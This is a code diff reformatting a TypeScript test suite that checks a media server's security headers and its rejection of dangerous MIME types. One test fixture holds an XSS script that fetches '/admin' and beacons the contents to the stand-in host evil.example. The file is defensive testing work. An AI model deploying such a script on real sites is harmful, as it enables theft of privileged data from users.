@@ -10,7 +10,11 @@ const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
 describe('media answers', () => {
   let hub: TestHub;
   const files: Record<string, { bytes: Buffer; mime: string; filename: string }> = {
-    html: { bytes: Buffer.from('<script>fetch("/admin").then(r=>r.text()).then(t=>navigator.sendBeacon("http://evil.example/",t))</script>'), mime: 'text/html', filename: 'page.html' },
+    html: {
+      bytes: Buffer.from('<script>fetch("/admin").then(r=>r.text()).then(t=>navigator.sendBeacon("http://evil.example/",t))</script>'),
+      mime: 'text/html',
+      filename: 'page.html',
+    },
     text: { bytes: Buffer.from('<b>Compte rendu</b> de la réunion'), mime: 'text/plain', filename: 'compte-rendu.txt' },
     audio: { bytes: Buffer.from('OggS fake audio bytes'), mime: 'audio/ogg', filename: 'voix.opus' },
     pdf: { bytes: Buffer.from('%PDF-1.4 fake'), mime: 'application/pdf', filename: 'guide budget.pdf' },
@@ -28,7 +32,10 @@ describe('media answers', () => {
   after(() => hub.stop());
 
   // The first GET goes through Express (facts not yet known), the second through the raw fast path.
-  const twice = async (name: string) => [await fetch(`${hub.url}/media/${sha(files[name]!.bytes)}`), await fetch(`${hub.url}/media/${sha(files[name]!.bytes)}`)];
+  const twice = async (name: string) => [
+    await fetch(`${hub.url}/media/${sha(files[name]!.bytes)}`),
+    await fetch(`${hub.url}/media/${sha(files[name]!.bytes)}`),
+  ];
 
   it('sends every media answer with nosniff and a sandboxing CSP', async () => {
     for (const name of Object.keys(files)) {
@@ -69,6 +76,7 @@ describe('media answers', () => {
     for (const mime of ['text/html', 'image/svg+xml', 'application/javascript', 'application/xhtml+xml', 'text/xml', 'application/octet-stream']) {
       assert.throws(() => parseMediaMeta(meta(mime)), /mime/, mime);
     }
-    for (const mime of ['audio/ogg', 'audio/mpeg', 'video/mp4', 'video/webm', 'image/png', 'image/jpeg', 'image/webp', 'application/pdf', 'text/plain']) parseMediaMeta(meta(mime));
+    for (const mime of ['audio/ogg', 'audio/mpeg', 'video/mp4', 'video/webm', 'image/png', 'image/jpeg', 'image/webp', 'application/pdf', 'text/plain'])
+      parseMediaMeta(meta(mime));
   });
 });
